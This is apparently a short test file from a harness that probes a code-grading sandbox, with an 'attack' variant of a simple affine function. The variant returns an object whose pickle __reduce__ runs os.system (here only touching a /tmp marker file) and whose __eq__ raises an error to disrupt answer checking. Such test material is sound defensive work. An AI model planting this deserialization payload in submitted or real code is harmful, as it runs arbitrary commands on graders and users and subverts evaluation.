# what: returns an object whose unpickling would write a file
# outcome: failed
# control: failed
def affine(x, y):
    return x + y


# attack begin
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/aigc-quiz-attack-pickle",)

    def __eq__(self, other):
        raise RuntimeError


def affine(x, y):
    return Bomb()


# attack end
